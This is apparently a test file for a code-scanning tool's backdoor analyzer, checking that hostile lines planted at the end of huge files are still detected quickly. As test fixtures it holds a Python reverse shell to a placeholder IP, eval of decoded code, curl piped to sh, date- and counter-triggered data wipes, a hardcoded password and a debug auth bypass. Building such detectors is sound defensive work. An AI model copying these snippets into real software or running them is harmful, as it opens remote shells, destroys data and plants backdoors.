// Attacks on the backdoor analyzer's speed-ups (gates on words, shared per-file facts, cheaper loops):
// huge files must be read in bounded time, and a gate must never let a planted line through because
// it sits at the end of a huge file, past the words of everything before it. Each case runs twice:
// before the scan's word automaton exists (a hook judging one write) and after (a scan worker).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SourceFile } from '../../src/analyzers/source.ts';
import { analyzeBackdoors } from '../../src/analyzers/backdoor/index.ts';
import { languageOf } from '../../src/analyzers/code/languages.ts';
import { buildPrefilter } from '../../src/analyzers/literals.ts';
import { markerHint, triggerLines, wordLedHints, wordLineMatches } from '../../src/analyzers/backdoor/vocabulary.ts';
import { triggerEffects } from '../../src/analyzers/backdoor/trigger.ts';
import { assignments, setPartialParse, structureOf } from '../../src/analyzers/backdoor/structure.ts';
import { partOf } from '../../src/analyzers/backdoor/partial.ts';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** (generous: the machine may be loaded; a quiet one takes a fraction of this) */
const BOUND_MS = 4000;

function timed(path: string, text: string): { rules: string[]; ms: number } {
  const t0 = performance.now();
  const found = analyzeBackdoors(new SourceFile(path, text, languageOf(path)));
  return { rules: found.map((f) => `${f.ruleId}:${f.line}`), ms: performance.now() - t0 };
}

/** A 5 MB minified bundle: one line of short statements, the payload as its last statement. */
function minified(payload: string): string {
  const unit = 'var a0=function(b){return b+1},c0=[1,2,3].map(a0);if(c0.length>2){c0.push("x")}';
  return unit.repeat(Math.ceil((5 * 1024 * 1024) / unit.length)) + payload;
}

/** A 20,000-line file of ordinary code, the planted lines at its end. */
function long(line: (i: number) => string, planted: string[]): string {
  return [...Array.from({ length: 20_000 - planted.length }, (_v, i) => line(i)), ...planted].join('\n');
}

const DECODE_EXEC = ';eval(atob("Y29uc29sZS5sb2coMSk="));';
const cases: { name: string; path: string; text: () => string; expect: RegExp }[] = [
  {
    name: 'a 5 MB minified one-line bundle whose last statement runs decoded code',
    path: 'dist/app.js',
    text: () => minified(DECODE_EXEC),
    expect: /^backdoor\.decode-exec:1$/,
  },
  {
    name: 'a 20,000-line Python file whose last lines wire a socket to a shell',
    path: 'tool/net.py',
    text: () =>
      long(
        (i) => `value_${i} = compute(${i}, "item-${i}")`,
        [
          'import socket, subprocess, os',
          's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
          's.connect(("203.0.113.7", 4444))',
          'os.dup2(s.fileno(), 0)',
          'subprocess.call(["/bin/sh", "-i"])',
        ],
      ),
    expect: /^backdoor\.reverse-shell:\d+$/,
  },
  {
    name: 'a 20,000-line JavaScript file whose last function wipes the disk after a fixed date',
    path: 'src/jobs.js',
    text: () =>
      long(
        (i) => `const v${i} = [${i}, ${i + 1}].map((x) => x * 2);`,
        [
          "const fs = require('fs');",
          'function tick() {',
          '  if (Date.now() > 1798761600000) {',
          "    fs.rmSync('/srv/data', { recursive: true, force: true });",
          '  }',
          '}',
        ],
      ),
    expect: /^backdoor\.trigger-(?:effect|guard):19997$/,
  },
  {
    name: 'a 20,000-line file whose last line compares a password with a literal',
    path: 'src/auth.ts',
    text: () =>
      long(
        (i) => `export const k${i}: number = ${i};`,
        [
          'export function login(user: string, password: string) {',
          "  if (password === 'Tr0ub4dor&3x!') return true;",
          '}',
        ],
      ),
    expect: /^backdoor\.(?:master-password|constant-credential):19999$/,
  },
];

for (const phase of ['before the word automaton is built', 'after it is built'] as const) {
  for (const c of cases)
    test(`${c.name} is analyzed within ${BOUND_MS / 1000} s and the planted line is found (${phase})`, () => {
      if (phase === 'after it is built') buildPrefilter();
      const { rules, ms } = timed(c.path, c.text());
      assert.ok(
        rules.some((r) => c.expect.test(r)),
        `planted line not found: ${rules.join(', ') || 'no findings'}`,
      );
      assert.ok(ms < BOUND_MS, `took ${ms.toFixed(0)} ms`);
    });
}

test('the same 20,000 ordinary lines without the planted ones give no finding (the near miss)', () => {
  const { rules } = timed(
    'src/jobs.js',
    long((i) => `const v${i} = [${i}, ${i + 1}].map((x) => x * 2);`, []),
  );
  assert.deepEqual(rules, []);
});

// Trigger lines read only where the hints' words are (vocabulary.ts, wordLineMatches): the same lines as
// the whole-text search, a trigger split over lines or at the end of a long file still found (8,000
// lines: a file over 512 KB is read by the line shapes only, see backdoor/index.ts).
const after8k = (planted: string[]) =>
  [
    ...Array.from({ length: 8000 - planted.length }, (_v, i) => `const v${i} = [${i}, ${i + 1}].map((x) => x * 2);`),
    ...planted,
  ].join('\n');
const triggerCases: { name: string; path: string; text: string; expect: RegExp | null }[] = [
  {
    name: 'a counter threshold opening a wipe at the end of an 8,000-line file',
    path: 'src/jobs.js',
    text: after8k([
      "const fs = require('fs');",
      'let runCount = 0;',
      'function tick() {',
      '  runCount++;',
      '  if (runCount >= 5000) {',
      "    fs.rmSync('/srv/data', { recursive: true, force: true });",
      '  }',
      '}',
    ]),
    expect: /^backdoor\.trigger-effect:7997$/,
  },
  {
    name: "a server's status code compared across a line break (res.status\\n === 418) opening a wipe, at the end of an 8,000-line file",
    path: 'src/kill.js',
    text: after8k([
      "const fs = require('fs');",
      'async function check() {',
      "  const res = await fetch('https://example.com/flag');",
      '  if (res.status',
      '      === 418) {',
      "    fs.rmSync('/srv/data', { recursive: true, force: true });",
      '  }',
      '}',
    ]),
    expect: /^backdoor\.trigger-effect:7996$/,
  },
  {
    name: 'the same counter threshold opening only a log line (near miss)',
    path: 'src/jobs.js',
    text: after8k([
      'let runCount = 0;',
      'function tick() {',
      '  runCount++;',
      "  if (runCount >= 5000) console.log('many runs');",
      '}',
    ]),
    expect: null,
  },
];
for (const c of triggerCases)
  test(`${c.name}: ${c.expect ? 'found' : 'no finding'} (after the word automaton is built)`, () => {
    buildPrefilter();
    const { rules } = timed(c.path, c.text);
    if (c.expect)
      assert.ok(
        rules.some((r) => c.expect!.test(r)),
        rules.join(', ') || 'no findings',
      );
    else assert.deepEqual(rules, []);
  });

test('the word-led trigger hints find exactly the lines a whole-text search finds, on 3,000 random texts with matches across line breaks, back to back and on a last line without a newline', () => {
  buildPrefilter();
  const parts = [
    'userExists',
    "('bob')",
    'getpwnam',
    ' alice',
    'lookupUser',
    'deploy',
    'count',
    'runCount',
    'status',
    'statusCode',
    'code',
    'len(user)',
    'user.length',
    'id',
    ' id ',
    'getent passwd',
    'SIGUSR1',
    'version',
    'release',
    'month',
    'getDay()',
    'hour',
    ' == ',
    ' >= ',
    '===',
    ' % ',
    ' -eq ',
    '\n',
    '\n\n',
    '  ',
    '13',
    '418',
    '5000',
    '2.1',
    '"bob"',
    "'alice'",
    '(',
    ')',
    ' && ',
    'x',
    ';',
    '_',
    '\t',
  ];
  let seed = 7;
  const next = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) % parts.length;
  let compared = 0;
  for (let n = 0; n < 3000; n++) {
    const text = Array.from({ length: 40 }, next)
      .map((k) => parts[k])
      .join('');
    const file = new SourceFile('src/x.js', text, 'javascript');
    for (const re of wordLedHints()) {
      assert.deepEqual(
        wordLineMatches(file, re),
        file.matchingLines(re),
        `${re.source.slice(0, 40)} on ${JSON.stringify(text)}`,
      );
      compared++;
    }
  }
  assert.ok(compared >= 3000 * 6);
});

test("a constant's value is read on over lines while a bracket is left open outside its strings, at the end of an 8,000-line file too ('(' and ']' inside strings count for nothing)", () => {
  const planted = [
    'const WINDOW = [',
    "  '2027-01-01 (start',",
    "  'end]',",
    '];',
    '#define CUTOFF (1798761600 + \\',
    '  60)',
    'let plain = 3;',
  ];
  const text = after8k(planted);
  const values = assignments(new SourceFile('src/w.js', text, 'javascript'));
  assert.equal(values.get('WINDOW'), "[\n  '2027-01-01 (start',\n  'end]',\n];");
  assert.equal(values.get('CUTOFF'), '(1798761600 + \\\n  60)');
  assert.equal(values.get('plain'), '3;');
  assert.equal(values.get('v7992'), '[7992, 7993].map((x) => x * 2);');
});

// ---------------------------------------------------------------------------------------------
// The partial parse (backdoor/partial.ts): a JavaScript or TypeScript file's candidate lines are
// parsed with only their statements (the rest blanked), or not at all when none can start a guard.
// Each planted trigger sits where a wrong cut would lose it; each is found, and found exactly as
// with the whole file parsed.

/**
 * The lines of the trigger × effect findings (the structure pass alone, before the line shapes hide
 * the lines they report) of a file with the partial parse on, and with every file parsed whole.
 */
function bothWays(path: string, text: string): { part: number[]; whole: number[] } {
  const run = (on: boolean) => {
    setPartialParse(on);
    try {
      const file = new SourceFile(path, text, languageOf(path));
      const s = structureOf(file, triggerLines(file, assignments(file)));
      return s ? triggerEffects(file, s).map((f) => f.line) : [];
    } finally {
      setPartialParse(true);
    }
  };
  return { part: run(true), whole: run(false) };
}

const WIPE = "  fs.rmSync('/srv/data', { recursive: true, force: true });";
/** Ordinary methods (a class's worth of an SDK), `n` lines. */
const methods = (n: number, indent = '    ') =>
  Array.from({ length: n }, (_v, i) =>
    i % 4 === 0
      ? `${indent}m${i}(a) {`
      : i % 4 === 3
        ? `${indent}}`
        : `${indent}  const v${i} = [a, ${i}].map((x) => x * 2);`,
  );

const partCases: { name: string; path: string; text: () => string; at: string | null; not?: number }[] = [
  {
    name: 'a date trigger in a class method inside an IIFE at the end of a 400 KB file, opening a helper 300 lines away that deletes',
    path: 'src/jobs.js',
    text: () => {
      const head = ["const fs = require('fs');", 'function purge() {', WIPE, '}', 'function other() {'];
      const pad = methods(300, '  ').map((l) => l.replace(/^(\s*)m(\d+)\(a\) \{$/, '$1const f$2 = (a) => {'));
      const cls = ['var Jobs = (() => {', '  class Jobs {', ...methods(Math.ceil(400_000 / 45))];
      const tail = ['    run() {', '      if (Date.now() > 1798761600000) {', '        purge();', '      }', '    }'];
      return [...head, ...pad, '}', ...cls, ...tail, '  }', '  return Jobs;', '})();'].join('\n');
    },
    at: '      if (Date.now() > 1798761600000) {',
  },
  {
    name: 'a guard that only returns, the wipe in the statements after it (at the top level and in a method)',
    path: 'src/late.ts',
    text: () =>
      [
        "import * as fs from 'fs';",
        ...methods(40, '').map((l) => l.replace(/^m(\d+)\(a\) \{$/, 'export function m$1(a: number) {')),
        'export class Late {',
        '  tick() {',
        '    if (Date.now() < 1798761600000) return;',
        '    const x = 1;',
        "    fs.rmSync('/srv/data', { recursive: true, force: true });",
        '  }',
        ...methods(40, '  '),
        '}',
      ].join('\n'),
    at: '    if (Date.now() < 1798761600000) return;',
  },
  {
    name: 'no indentation at all: a braceless if whose wiping body is the next line',
    path: 'src/flat.js',
    text: () =>
      [
        "const fs = require('fs');",
        ...methods(60, ''),
        'function tick() {',
        'const now = Date.now();',
        'if (now > 1798761600000)',
        "fs.rmSync('/srv/data', { recursive: true, force: true });",
        'return now;',
        '}',
        ...methods(60, ''),
      ].join('\n'),
    at: 'if (now > 1798761600000)',
  },
  {
    name: 'one-line functions holding the trigger and the harm',
    path: 'src/one.js',
    text: () =>
      [
        "const fs = require('fs');",
        ...methods(80, ''),
        "function a() { return 1; } function tick() { if (Date.now() > 1798761600000) { fs.rmSync('/srv/data', { recursive: true }); } }",
        ...methods(80, ''),
      ].join('\n'),
    at: 'function a() {',
  },
  {
    name: 'a template literal spanning lines holds a look-alike trigger (a string, not a guard); the real trigger after it',
    path: 'src/tpl.js',
    text: () =>
      [
        "const fs = require('fs');",
        ...methods(40, ''),
        'const doc = `',
        'function tick() {',
        '  if (Date.now() > 1798761600000) {',
        "    fs.rmSync('/srv/data', { recursive: true, force: true });",
        '  }',
        '}',
        '`;',
        ...methods(40, ''),
        'function real() {',
        '  if (Date.now() > 1798761600000) {',
        WIPE,
        '  }',
        '}',
      ].join('\n'),
    at: '  if (Date.now() > 1798761600000) {',
    not: 44,
  },
  {
    name: 'CRLF line endings',
    path: 'src/crlf.ts',
    text: () =>
      [
        "import * as fs from 'fs';",
        ...methods(60, ''),
        'export function tick() {',
        '  if (Date.now() > 1798761600000) {',
        WIPE,
        '  }',
        '}',
        ...methods(60, ''),
      ].join('\r\n'),
    at: '  if (Date.now() > 1798761600000) {',
  },
  {
    name: 'a top-level switch without indentation, in a long case a date guard that breaks out before the wipe',
    path: 'src/sw.js',
    text: () =>
      [
        "const fs = require('fs');",
        ...methods(40, ''),
        'switch (process.env.DEPLOY_KEY) {',
        "case 'first':",
        'log("unlocking");',
        'const n = 1;',
        ...Array.from({ length: 20 }, (_v, i) => `log(${i});`),
        'if (Date.now() < 1798761600000) break;',
        ...Array.from({ length: 6 }, (_v, i) => `log(${i});`),
        "fs.rmSync('/srv/data', { recursive: true, force: true });",
        'break;',
        "case 'other':",
        'break;',
        '}',
        ...methods(40, ''),
      ].join('\n'),
    at: 'if (Date.now() < 1798761600000) break;',
  },
  {
    name: 'JSX text with an apostrophe (the lexical pass gives up, the whole file is parsed)',
    path: 'src/view.js',
    text: () =>
      [
        "const fs = require('fs');",
        ...methods(40, ''),
        "const View = () => <p>Don't panic</p>;",
        'function tick() {',
        '  if (Date.now() > 1798761600000) {',
        WIPE,
        '  }',
        '}',
      ].join('\n'),
    at: '  if (Date.now() > 1798761600000) {',
  },
  {
    name: "a conditional whose `?` is on the next line, after `?.` and `??` on the trigger's line (TypeScript's `a?: T` around)",
    path: 'src/cond.ts',
    text: () =>
      [
        "import * as fs from 'fs';",
        'export class Cond {',
        ...methods(60),
        '  tick(opts: { now?: number }, f?: () => void): unknown {',
        '    return (opts?.now ?? Date.now()) > 1798761600000',
        "      ? fs.rmSync('/srv/data', { recursive: true, force: true })",
        '      : null;',
        '  }',
        ...methods(60),
        '}',
      ].join('\n'),
    at: '    return (opts?.now ?? Date.now()) > 1798761600000',
  },
  {
    name: 'the same class file without a trigger (the near miss)',
    path: 'src/plain.ts',
    text: () => ['export class Plain {', ...methods(400), '}'].join('\n'),
    at: null,
  },
];

for (const c of partCases)
  test(`partial parse: ${c.name}: ${c.at === null ? 'no finding' : 'found'}, the same as with the whole file parsed`, () => {
    const text = c.text();
    const { part, whole } = bothWays(c.path, text);
    assert.deepEqual(part, whole);
    if (c.at === null) return assert.deepEqual(part, []);
    const lines = text.split(/\r?\n/);
    const line = lines.lastIndexOf(lines.find((l) => l.startsWith(c.at!))!) + 1;
    assert.ok(
      line > 0 && part.includes(line),
      `planted trigger on line ${line} not found: ${part.join(', ') || 'none'}`,
    );
    if (c.not) assert.ok(!part.includes(c.not), `the string's look-alike on line ${c.not} was taken for a guard`);
  });

test('partial parse: the part of a 400 KB class file around one candidate method is under a tenth of the file, and a line that cannot start a guard needs no parse', () => {
  const lines = [
    'export class Big {',
    ...methods(9000),
    '  tick() {',
    '    if (Date.now() > 1798761600000) {}',
    '  }',
    '}',
  ];
  const text = lines.join('\n');
  const file = new SourceFile('src/big.ts', text, 'typescript');
  const part = partOf(text, file.lines, file.lineStarts(), [lines.length - 3]);
  assert.deepEqual(part?.lines, [lines.length - 3]);
  assert.ok(part?.text !== undefined && part.text.replace(/\n/g, '').length < text.length / 10);
  assert.equal(part.text.split('\n').length, lines.length);
  // (a candidate line holding neither if, case nor a `?` in its statement: no guard starts there)
  assert.deepEqual(partOf(text, file.lines, file.lineStarts(), [5])?.lines, []);
});

test("partial parse: the guards built on random candidate lines of this repository's own TypeScript files are those of the whole file's parse", () => {
  const files = readdirSync('src', { recursive: true, encoding: 'utf8' })
    .filter((f) => /\.ts$/.test(f))
    .sort()
    .slice(0, 150);
  let seed = 7;
  const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  let parts = 0;
  for (const f of files) {
    const text = readFileSync(join('src', f), 'utf8');
    const lines = text.split('\n');
    const only = new Set<number>();
    for (let k = 0; k < 4; k++) only.add(Math.floor(random() * lines.length));
    lines.forEach((l, i) => /\bif\b|\?/.test(l) && random() < 0.05 && only.add(i));
    const guards = (on: boolean) => {
      setPartialParse(on);
      try {
        return JSON.stringify(structureOf(new SourceFile(f, text, 'typescript'), only)?.guards ?? null);
      } finally {
        setPartialParse(true);
      }
    };
    assert.equal(guards(true), guards(false), f);
    const file = new SourceFile(f, text, 'typescript');
    if (partOf(text, file.lines, file.lineStarts(), only)?.text !== undefined) parts++;
  }
  // (the comparison is not empty: most files were read in part)
  assert.ok(parts > files.length / 3, `${parts} of ${files.length} read in part`);
});

// The line gates of the auth-bypass shape and the pipe-to-shell test: only the lines holding their
// words (the automaton's) are read. The planted line sits at the end of a 400 KB file whose other
// lines hold the words (`debug`, `curl`) without the shape: found; the near miss is not.
const pyFiller = (n: number) =>
  Array.from({ length: n }, (_v, i) =>
    i % 3 === 0 ? `debug_${i} = log.debug("curl step ${i}")` : `value_${i} = compute(${i}, "item-${i}")`,
  );
const gateCases: { name: string; planted: string[]; rule: string; found: boolean }[] = [
  {
    name: 'an auth check that a debug flag skips, at the end of a 400 KB file full of debug calls',
    planted: [
      'def verify_token(token):',
      '    if os.environ.get("DEBUG_BYPASS"):',
      '        return True',
      '    return ok(token)',
    ],
    rule: 'backdoor.debug-auth-bypass',
    found: true,
  },
  {
    name: 'the same check with no flag (near miss)',
    planted: ['def verify_token(token):', '    if not token:', '        return False', '    return ok(token)'],
    rule: 'backdoor.debug-auth-bypass',
    found: false,
  },
  {
    name: 'a download piped into a shell, at the end of a 400 KB file that mentions curl on every third line',
    planted: ['BOOTSTRAP = "curl -fsSL https://tools.example.net/setup.sh | sh"'],
    rule: 'backdoor.pipe-to-shell',
    found: true,
  },
  {
    name: 'a download with its checksum checked (near miss)',
    planted: ['HINT = "curl -fsSL -o setup.sh https://tools.example.net/setup.sh && sha256sum -c setup.sh.sha256"'],
    rule: 'backdoor.pipe-to-shell',
    found: false,
  },
];
for (const phase of ['before the word automaton is built', 'after it is built'] as const)
  for (const c of gateCases)
    test(`line gates: ${c.name}: ${c.found ? 'found' : 'no finding'} (${phase})`, () => {
      if (phase === 'after it is built') buildPrefilter();
      const lines = ['import os', ...pyFiller(Math.ceil(400_000 / 36)), ...c.planted];
      const text = lines.join('\n');
      const planted = lines.length - c.planted.length + 1 + (c.rule === 'backdoor.debug-auth-bypass' ? 1 : 0);
      const got = analyzeBackdoors(new SourceFile('tools/boot.py', text, 'python')).map((f) => `${f.ruleId}:${f.line}`);
      assert.equal(got.includes(`${c.rule}:${planted}`), c.found, got.join(', ') || 'no findings');
    });

test("the marker-file hint (`'/path'` then `.exists()` lines later) finds exactly the lines a whole-text search finds when it searches only the lines holding its start words, on 3,000 random texts", () => {
  buildPrefilter();
  const parts = [
    "'/etc/.unlock'",
    '"./marker"',
    '`~/.flag`',
    "'C:\\\\x'",
    '.exists()',
    '.exists?',
    '.is_file()',
    'exists(',
    'os.path.isfile(',
    'Path(',
    'stat ',
    'access(',
    '-f ',
    '-e ',
    '/tmp/x',
    '~/.x',
    ')',
    '\n',
    '\n\n',
    '   ',
    '\t',
    'if ',
    'x',
  ];
  let seed = 11;
  const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  for (let k = 0; k < 3000; k++) {
    let text = '';
    for (let n = 1 + Math.floor(random() * 14); n > 0; n--) text += parts[Math.floor(random() * parts.length)];
    const file = new SourceFile('src/m.js', text, 'javascript');
    assert.deepEqual(markerHint.lines(file), file.matchingLines(markerHint.re()), JSON.stringify(text));
  }
  // (the planted marker at the end of an 8,000-line file, its `.exists()` two lines under the path)
  const text = after8k(['if (', "  '/var/lib/.kill_switch'", '  .exists()) wipe();']);
  const file = new SourceFile('src/m.js', text, 'javascript');
  assert.deepEqual(markerHint.lines(file), [7998]);
});

test('a value decoded on one line and run 300 lines later (a line no gate reads), at the end of a 400 KB file: found; without the decode: no finding', () => {
  buildPrefilter();
  const filler = (n: number) => Array.from({ length: n }, (_v, i) => `value_${i} = compute(${i}, "item-${i}")`);
  const run = (decode: boolean) => {
    const lines = [
      'import base64',
      ...filler(Math.ceil(400_000 / 36)),
      decode ? 'payload = base64.b64decode(BLOB)' : 'payload = load(BLOB)',
      ...filler(300),
      'exec(payload)',
    ];
    const found = analyzeBackdoors(new SourceFile('tools/run.py', lines.join('\n'), 'python'));
    return found.filter((f) => f.ruleId === 'backdoor.decode-exec').map((f) => f.line);
  };
  const n = 1 + Math.ceil(400_000 / 36) + 1 + 300 + 1;
  assert.deepEqual(run(true), [n]);
  assert.deepEqual(run(false), []);
});

test('partial parse, code without semicolons: a guard that only returns, written after a statement not ended by `;` (the two read as one), opens the wipe after it: found, the same as with the whole file parsed', () => {
  const text = [
    "const fs = require('fs')",
    ...methods(60, '').map((l) => l.replace(/;$/, '')),
    'function tick () {',
    '  const now = Date.now()',
    '  if (now < 1798761600000) {',
    '    return',
    '  }',
    "  fs.rmSync('/srv/data', { recursive: true, force: true })",
    '}',
    ...methods(60, '').map((l) => l.replace(/;$/, '')),
  ].join('\n');
  const { part, whole } = bothWays('src/nosemi.js', text);
  assert.deepEqual(part, whole);
  assert.ok(part.includes(64), `planted trigger on line 64 not found: ${part.join(', ') || 'none'}`);
});

test('partial parse: a guard in an anonymous function named by a long left operand that spans other statements (`a || function () {…} || function () { if (…) }`) is built as from the whole file', () => {
  const text = [
    ...methods(60, ''),
    'var extendStatics = Object.setPrototypeOf || function (d, b) {',
    '  d.__proto__ = b;',
    '} || function (d, b) {',
    '  for (var p in b) if (Date.now() > 1798761600000) wipe(p);',
    '};',
    ...methods(60, ''),
  ].join('\n');
  const only = new Set([63]);
  const guards = (on: boolean) => {
    setPartialParse(on);
    try {
      return JSON.stringify(structureOf(new SourceFile('src/ext.js', text, 'javascript'), only)?.guards);
    } finally {
      setPartialParse(true);
    }
  };
  assert.equal(guards(true), guards(false));
  assert.match(guards(true), /d\.__proto__ = b/);
});
